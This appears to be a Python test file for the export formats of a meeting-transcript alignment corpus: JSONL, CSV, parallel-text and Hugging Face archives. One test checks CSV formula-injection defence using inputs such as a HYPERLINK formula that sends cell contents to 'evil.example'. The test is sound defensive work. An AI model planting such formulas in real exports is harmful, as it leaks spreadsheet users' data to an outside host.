"""Each format on real public_meetings meetings, read back the way its users read it."""

import csv
import io
import json
import os
import zipfile

import pytest

from backend.curation.public_meetings import raw_files
from tests.exports.conftest import NO_LENGTH_FILTER, body, records
from workers.align.corpus import load_public_meetings
from workers.align.pairs.shape import FIELDS
from workers.align.pairs.split import split_of
from workers.align.readers import read_report, read_transcript


def expected_pairs(document) -> list[dict]:
    """The corpus's reference labels over the raw files' texts (the corpus's own report
    texts differ in a few characters), read here by the readers, not from Tandem."""
    meeting = load_public_meetings([document.source.removeprefix("public_meetings:")])[0]
    docx, ctm_parts = raw_files(meeting.id)
    timed_turns = read_transcript(ctm_parts).turns
    pairs = []
    for position, segment in enumerate(read_report(docx).segments):
        turns = [index for index, label in enumerate(meeting.reference) if label == position]
        if turns:
            pairs.append(
                {
                    "id": f"{document.pk}-{position}",
                    "segment_key": segment.id,
                    "target": segment.text,
                    "turn_positions": turns,
                    "source": " ".join(meeting.transcript.turns[turn].text for turn in turns),
                    "start": timed_turns[turns[0]].start,
                    "end": timed_turns[turns[-1]].end,
                    "turn_speakers": [timed_turns[turn].speaker for turn in turns],
                }
            )
    return pairs


def test_jsonl_has_one_record_per_gold_segment_with_its_turns(corpus):
    response = corpus.client().get(f"{corpus.url}/exports/pairs.jsonl", NO_LENGTH_FILTER)

    exported = records(response)
    expected = [pair for document in corpus.gold for pair in expected_pairs(document)]
    assert response["Content-Type"].startswith("application/x-ndjson")
    assert [list(record) for record in exported] == [list(FIELDS)] * len(expected)
    for record, pair in zip(exported, expected, strict=True):
        assert {key: record[key] for key in pair} == pair
    assert {record["origin"] for record in exported} == {"gold"}
    assert {record["confidence"] for record in exported} == {1.0}
    assert {record["meeting"] for record in exported} == {d.source for d in corpus.gold}
    assert all(record["iteration"] is None for record in exported)


def test_automatic_pairs_come_only_when_asked_for(corpus):
    client = corpus.client()
    url = f"{corpus.url}/exports/pairs.jsonl"

    gold_only = records(client.get(url, NO_LENGTH_FILTER))
    both = records(client.get(url, {**NO_LENGTH_FILTER, "include_automatic": "true"}))

    automatic = [record for record in both if record["origin"] == "automatic"]
    labels = corpus.pre_aligned.pre_alignments.get().labels
    assert [record for record in both if record["origin"] == "gold"] == gold_only
    assert {record["document_id"] for record in automatic} == {corpus.pre_aligned.pk}
    assert [record["segment_position"] for record in automatic] == sorted(set(labels) - {-1})
    assert {record["confidence"] for record in automatic} == {None}


def test_csv_carries_the_same_records_as_jsonl(corpus):
    client = corpus.client()
    params = {**NO_LENGTH_FILTER, "include_automatic": "true"}

    exported = records(client.get(f"{corpus.url}/exports/pairs.jsonl", params))
    response = client.get(f"{corpus.url}/exports/pairs.csv", params)

    rows = list(csv.reader(io.StringIO(body(response).decode(), newline="")))
    assert response["Content-Type"].startswith("text/csv")
    assert rows[0] == list(FIELDS)
    assert rows[1:] == [[_as_cell(record[field]) for field in FIELDS] for record in exported]


def _as_cell(value) -> str:
    if value is None:
        return ""
    if isinstance(value, list):
        return json.dumps(value, ensure_ascii=False)
    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
        return f"'{value}"
    return str(value)


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\r=1"],
)
def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(corpus, name):
    document = corpus.gold[0]
    document.name = name
    document.save(update_fields=["name"])
    params = {**NO_LENGTH_FILTER, "remove_tags": "false"}

    response = corpus.client().get(f"{corpus.url}/exports/pairs.csv", params)

    rows = list(csv.DictReader(io.StringIO(body(response).decode(), newline="")))
    names = {row["document_name"] for row in rows if row["document_id"] == str(document.pk)}
    assert names == {f"'{name}"}
    jsonl = records(corpus.client().get(f"{corpus.url}/exports/pairs.jsonl", params))
    assert {r["document_name"] for r in jsonl if r["document_id"] == document.pk} == {name}


def seed_splitting(corpus) -> str:
    """A seed that puts the two gold meetings in different splits (train and test)."""
    for attempt in range(100):
        seed = f"seed-{attempt}"
        splits = {
            split_of(d.source, seed=seed, valid_ratio=0.0, test_ratio=0.5) for d in corpus.gold
        }
        if splits == {"train", "test"}:
            return seed
    pytest.fail("no seed in 100 splits two meetings at 50%")


def test_parallel_text_pairs_line_by_line_within_each_split(corpus):
    params = {**NO_LENGTH_FILTER, "split_seed": seed_splitting(corpus), "valid_ratio": "0"}
    params["test_ratio"] = "0.5"
    client = corpus.client()

    exported = records(client.get(f"{corpus.url}/exports/pairs.jsonl", params))
    archive = zipfile.ZipFile(
        io.BytesIO(body(client.get(f"{corpus.url}/exports/parallel.zip", params)))
    )

    assert archive.namelist() == [
        "train.src", "train.tgt", "valid.src", "valid.tgt", "test.src", "test.tgt", "README.md",
    ]  # fmt: skip
    for split, prefix in (("train", "train"), ("validation", "valid"), ("test", "test")):
        in_split = [record for record in exported if record["split"] == split]
        sources = archive.read(f"{prefix}.src").decode().splitlines()
        targets = archive.read(f"{prefix}.tgt").decode().splitlines()
        assert sources == [record["source"] for record in in_split]
        assert targets == [record["target"] for record in in_split]
    assert archive.read("train.src")
    assert archive.read("test.src")
    assert not archive.read("valid.src")
    assert '"split_seed"' in archive.read("README.md").decode()


def test_the_hugging_face_folder_loads_with_datasets(corpus, tmp_path):
    os.environ.setdefault("HF_HUB_OFFLINE", "1")
    os.environ.setdefault("HF_DATASETS_OFFLINE", "1")
    import datasets

    params = {"split_seed": seed_splitting(corpus), "valid_ratio": "0", "test_ratio": "0.5"}
    params["remove_speaker_names"] = "true"
    client = corpus.client()
    exported = records(client.get(f"{corpus.url}/exports/pairs.jsonl", params))
    archive = body(client.get(f"{corpus.url}/exports/huggingface.zip", params))
    zipfile.ZipFile(io.BytesIO(archive)).extractall(tmp_path / "dataset")

    loaded = datasets.load_dataset(str(tmp_path / "dataset"), cache_dir=str(tmp_path / "cache"))

    assert set(loaded) == {"train", "test"}
    for split in ("train", "test"):
        assert loaded[split].to_list() == [r for r in exported if r["split"] == split]
    card = (tmp_path / "dataset" / "README.md").read_text()
    assert "Removed from the texts: speaker names." in card
    assert "10 <= words <= 1000 and 3 <= sentences <= 50" in card


FORMATS = ["pairs.jsonl", "pairs.csv", "parallel.zip", "huggingface.zip", "public-meetings.json"]


@pytest.mark.parametrize("path", FORMATS)
def test_the_same_request_on_the_same_data_gives_the_same_bytes(corpus, path):
    params = {} if path == "public-meetings.json" else {"include_automatic": "1", "min_words": 5}
    client = corpus.client()

    first = client.get(f"{corpus.url}/exports/{path}", params)
    second = client.get(f"{corpus.url}/exports/{path}", params)

    assert first.streaming
    first_bytes = body(first)
    assert first_bytes == body(second)
    assert len(first_bytes) > 1000


@pytest.mark.parametrize("path", [*FORMATS, "preview/"])
def test_reading_the_documents_one_batch_at_a_time_changes_no_byte(corpus, path, monkeypatch):
    """Exports read a batch of documents at a time; batches of one document (each gold,
    automatic and pre-aligned one read apart) give what one batch of all of them gives."""
    params = {} if path == "public-meetings.json" else {"include_automatic": "1", "min_words": 5}
    client = corpus.client()
    whole = client.get(f"{corpus.url}/exports/{path}", params)

    monkeypatch.setattr("backend.core.ids.IDS_PER_BATCH", 1)
    one_by_one = client.get(f"{corpus.url}/exports/{path}", params)

    assert whole.status_code == one_by_one.status_code == 200
    assert body(whole) == body(one_by_one)
